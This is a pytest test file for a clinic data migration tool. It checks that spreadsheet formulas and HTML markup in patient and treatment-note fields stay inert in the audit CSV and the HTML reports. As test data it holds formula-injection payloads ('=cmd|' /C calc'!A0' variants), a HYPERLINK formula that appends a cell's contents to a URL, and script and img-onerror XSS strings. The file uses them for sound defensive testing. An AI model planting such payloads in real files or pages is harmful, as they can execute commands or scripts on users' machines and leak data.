"""Spreadsheet formulas and markup in clinic data stay inert text, in the log and in anything
the engine writes for people to open (the audit CSV, the HTML reports)."""

from __future__ import annotations

import csv
import io

import pytest

from consumers.views.report_html import diff_html, plain_table_html
from tests.badinput.builders import PATIENT_HEADER, csv_text, patient
from tests.badinput.conftest import Hostile

pytestmark = pytest.mark.faults

FORMULAS = {
    "First Name": "=cmd|' /C calc'!A0",
    "Last Name": "+SUM(1,1)*cmd|' /C calc'!A0",
    "Middle Name": "-2+3+cmd|' /C calc'!A0",
    "Preferred First Name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Address 1": "<script>alert('x')</script>",
}
CANONICAL = {"First Name": "first_name", "Last Name": "last_name", "Middle Name": "middle_name",
             "Preferred First Name": "preferred_name", "Address 1": "address_line1"}
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
NOTE_HEADER = ["ID", "Patient ID", "Practitioner ID", "Appointment ID", "Title", "Content",
               "Created At"]
NOTE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE_BODY = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")\n-1+1\n<b>bold</b>"
OPERATOR = "=HYPERLINK(\"http://example.invalid\",\"ok\")"  # an operator name is input too


def test_formula_strings_are_kept_verbatim_and_never_act_in_the_audit_csv(
        hostile: Hostile) -> None:
    hostile.secrets.extend([*FORMULAS.values(), NOTE_TITLE, NOTE_BODY])
    cells = {k.replace(" ", "_"): v for k, v in FORMULAS.items()}
    (hostile.src / "patients.csv").write_text(
        csv_text(PATIENT_HEADER, [patient(1, **cells), patient(2)]), encoding="utf-8")
    (hostile.src / "treatment_notes.csv").write_text(csv_text(NOTE_HEADER, [
        {"ID": "21", "Patient ID": "1", "Title": NOTE_TITLE, "Content": NOTE_BODY,
         "Created At": "2024-01-02"}]), encoding="utf-8")
    with hostile.contained():
        hostile.run("extract", str(hostile.src), expect=0)
        hostile.run("map", "propose", expect=0)
        # 1: the notes are not sent (clinical content off)
        confirmed = hostile.json("map", "confirm", "--by", OPERATOR, expect=1)
        audit = hostile.run("audit", "--format", "csv", expect=0).stdout
    assert confirmed["files"]["patients.csv"] == {"read": 2, "derived": 2, "quarantined": 0,
                                                  "ignored": 0, "erased": 0, "dropped": 0,
                                                  "furniture": 0}
    assert confirmed["files"]["treatment_notes.csv"]["derived"] == 1
    note = hostile.fields("clinical_note", "21")
    assert (note["title"], note["body"]) == (NOTE_TITLE, NOTE_BODY)
    fields = hostile.fields("patient", "1")
    assert {CANONICAL[k]: fields[CANONICAL[k]] for k in FORMULAS} == {
        CANONICAL[k]: v for k, v in FORMULAS.items()}
    table = list(csv.reader(io.StringIO(audit)))
    assert len(table) > 3 and any(OPERATOR.lstrip("=") in cell for row in table for cell in row)
    acting = [cell for row in table for cell in row if cell.startswith(FORMULA_LEADS)]
    assert acting == []
    for value in [*FORMULAS.values(), NOTE_TITLE, NOTE_BODY]:
        assert value not in audit


HOSTILE_TEXT = "<script>alert('x')</script>\"><img src=x onerror=alert(1)>"


def test_html_reports_escape_source_values() -> None:
    report = {"records": 1, "records_ok": 0, "differing": 1, "missing_records": 0,
              "kinds": {"patient": {HOSTILE_TEXT: {
                  "matched": 0, "differing": 1, "missing": 0,
                  "examples": [{"source_id": HOSTILE_TEXT, "status": "differing",
                                "expected": HOSTILE_TEXT, "actual": {"v": HOSTILE_TEXT}}]}}}}
    pages = [diff_html(HOSTILE_TEXT, report),
             plain_table_html(HOSTILE_TEXT, [HOSTILE_TEXT], [[HOSTILE_TEXT, HOSTILE_TEXT]],
                              HOSTILE_TEXT)]
    for page in pages:
        assert "<script>alert" not in page and "<img" not in page
        assert "&lt;script&gt;alert" in page
        assert page.count("<script>") <= 1  # the report's own filter script at most
